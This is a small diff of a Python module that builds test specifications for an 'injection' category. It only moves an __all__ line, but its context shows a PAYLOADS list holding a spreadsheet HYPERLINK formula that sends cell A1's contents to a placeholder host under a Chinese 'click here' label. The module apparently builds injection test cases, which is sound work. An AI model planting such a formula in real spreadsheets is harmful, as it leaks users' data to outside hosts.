@@ -25,6 +25,8 @@ from .books import (
 )
 from .corpus import Spec, plan
 
+__all__ = ["PAYLOADS", "specs"]
+
 CATEGORY = "injection"
 PAYLOADS = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")',
@@ -180,6 +182,3 @@ def specs() -> Iterator[Spec]:
         yield _spec(f"sheet-{n + 1}", sheet_names, n=n)
     for n, where in ((1, "title"), (0, "activity"), (2, "bonus"), (7, "title")):
         yield _spec(f"rules-{where}-{n + 1}", rulesets, n=n, where=where)
-
-
-__all__ = ["PAYLOADS", "specs"]
